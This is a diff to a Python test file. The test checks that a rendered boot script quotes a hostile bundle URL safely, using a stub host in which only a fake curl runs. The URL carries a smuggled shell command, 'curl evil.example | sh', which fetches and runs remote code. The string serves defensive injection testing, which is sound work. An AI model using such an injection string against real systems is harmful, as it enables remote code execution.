@@ -23,6 +23,7 @@ from bakeoff.agent import AGENT_PORT, bundle
 from bakeoff.plan import PlanError, load_plan, plan_from_dict
 from bakeoff.providers import ProviderError
 from bakeoff.serving import userdata
+from tests.stub_host import StubHost
 
 KEY = "k" * 32
 
@@ -133,7 +134,7 @@ def test_the_boot_script_checks_the_bundle_and_firewalls_the_agent():
     assert userdata.agent_from_userdata(userdata.render(t, api_key=KEY, shutdown_after_s=60, ingress_cidr=None)) is None
 
 
-def test_a_hostile_bundle_url_stays_one_quoted_word():
+def test_a_hostile_bundle_url_stays_one_quoted_word(tmp_path):
     evil = "https://x/c.zip?a=1'; curl evil.example | sh; echo '"
     script = userdata.render(
         _target(), api_key=KEY, shutdown_after_s=3600, ingress_cidr="203.0.113.7/32", agent=_agent(evil)
@@ -141,10 +142,9 @@ def test_a_hostile_bundle_url_stays_one_quoted_word():
     # the URL is set once, as one quoted word, and curl reads that variable
     line = next(ln for ln in script.splitlines() if ln.startswith(f"{userdata.BUNDLE_URL_VAR}="))
     assert shlex.split(line) == [f"{userdata.BUNDLE_URL_VAR}={evil}"]
-    shown = subprocess.run(
-        ["bash", "-c", f'{line}\nprintf %s "${userdata.BUNDLE_URL_VAR}"'], capture_output=True, text=True, check=True
-    )
-    assert shown.stdout == evil
+    host = StubHost(tmp_path, {"curl": 'printf "%s\\n" "$@"'})  # nothing but curl may run: no injected sh
+    shown = host.run(f'{line}\ncurl -fsSL "${userdata.BUNDLE_URL_VAR}"')
+    assert shown.returncode == 0 and shown.stdout.splitlines() == ["-fsSL", evil]
     fetch = next(ln for ln in script.splitlines() if ln.startswith("if curl"))
     assert shlex.split(fetch.removesuffix("\\"))[-1] == f"${userdata.BUNDLE_URL_VAR}" and evil not in fetch
     assert script.count("evil.example") == 1
